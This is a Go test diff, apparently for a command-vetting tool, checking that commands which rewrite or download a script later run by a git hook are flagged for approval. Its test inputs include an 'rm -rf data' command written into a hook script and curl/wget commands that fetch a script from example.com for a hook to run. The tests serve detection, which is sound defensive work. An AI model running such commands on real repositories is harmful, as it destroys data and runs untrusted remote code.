@@ -113,3 +113,65 @@ echo '{"scripts":{"test":"true"}}' >package.json; git add -A; git commit -qm one
 		}
 	}
 }
+
+// TestHooksOfEachCommand has git run each hook by whatever makes it do so, behind a script that writes what the hook runs.
+func TestHooksOfEachCommand(t *testing.T) {
+	runsPrograms(t)
+	l := newLossy(t, `git init -q -b main .; mkdir scripts data; echo echo hi >scripts/run.sh; echo a >a; git add -A; git commit -qm one; git checkout -q -b side; echo b >b; git add b; git commit -qm b
+git format-patch -q -1 -o ..; git checkout -q main; echo c >c; git add c; git commit -qm c; echo mine >data/one.csv; for h in pre-commit post-commit pre-rebase post-checkout post-merge commit-msg post-rewrite applypatch-msg post-index-change reference-transaction; do
+printf '#!/bin/sh\nsh scripts/run.sh\n' >../$h; chmod +x ../$h; done`)
+	const written, fetched = "echo 'rm -rf data' > scripts/run.sh; ", "curl -so scripts/run.sh https://example.com/run.sh; "
+	losing := 0
+	for _, name := range strings.Fields("pre-commit post-commit pre-rebase post-checkout post-merge commit-msg post-rewrite applypatch-msg post-index-change reference-transaction") {
+		for _, does := range []string{
+			"git add a", "git add a scripts; git commit -qm x", "git commit -qm x -a", "git commit -q --amend -a -m x", "git checkout -q side", "git switch -q side", "git checkout -q -b new", "git branch new", "git restore a", "git merge -q side",
+			"git stash -q; git stash pop -q", "git add scripts; git commit -qm x; git rebase -q side", "git cherry-pick side", "git am ../0001-b.patch", "git worktree add -q build", "git tag t", "git add -A; git reset -q", "git pull -q . side", "git log", "git diff",
+		} {
+			put := "cp ../" + name + " .git/hooks; "
+			if lost := l.loses(put + written + does); len(lost) == 0 {
+				continue
+			}
+			losing++
+			d := *l
+			d.root = t.TempDir()
+			if out, err := l.run(filepath.Join(l.root, "home"), put+"cp -a ../../home "+d.root+"; rm .git/hooks/"+name); err != nil {
+				t.Fatalf("%s", out)
+			}
+			for _, script := range []string{written, fetched} {
+				if asks, _ := d.asks(script + does); !asks {
+					t.Errorf("%s runs %s: %s", name, script, does)
+				}
+			}
+		}
+	}
+	if losing < 30 {
+		t.Errorf("%d of the commands ran a hook", losing)
+	}
+}
+
+// TestFetchedHooked: a hook runs what the same command fetched.
+func TestFetchedHooked(t *testing.T) {
+	d := newWorkPlace(t)
+	d.put("scripts/run.sh", "echo run\n")
+	d.commit()
+	d.put(".git/hooks/pre-commit", "#!/bin/sh\nsh scripts/run.sh\n")
+	d.git("worktree", "add", "-q", "../tree")
+	const url = " https://example.com/run.sh"
+	for _, place := range []string{d.project, d.home + "/tree"} {
+		at := workPlace{t, d.home, place}
+		for script, want := range map[string]bool{
+			"curl -so scripts/run.sh" + url + " && git add -A && git commit -qm x":             true,
+			"wget -qP scripts" + url + "; git commit -qam x":                                   true,
+			"curl -s" + url + " | tee scripts/run.sh; git commit -qam x":                       true,
+			"curl -so n.sh" + url + "; mv n.sh scripts/run.sh; git commit -qam x":              true,
+			"curl -sLo x.tgz" + url + "; tar xzf x.tgz -C scripts; git commit -qam x":          true,
+			"curl -so scripts/run.sh" + url + " && git add -A":                                 false,
+			"curl -so scripts/other.sh" + url + " && git add -A && git commit -qm x":           false,
+			"curl -so vendor/x.js https://example.com/x.js; git add -A; git commit -m x":       false,
+			"git commit -qam x; curl -so scripts/run.sh" + url:                                 false,
+			"curl -so data.json https://example.com/x && git add data.json && git commit -m x": false,
+		} {
+			at.asks(place, script, want)
+		}
+	}
+}
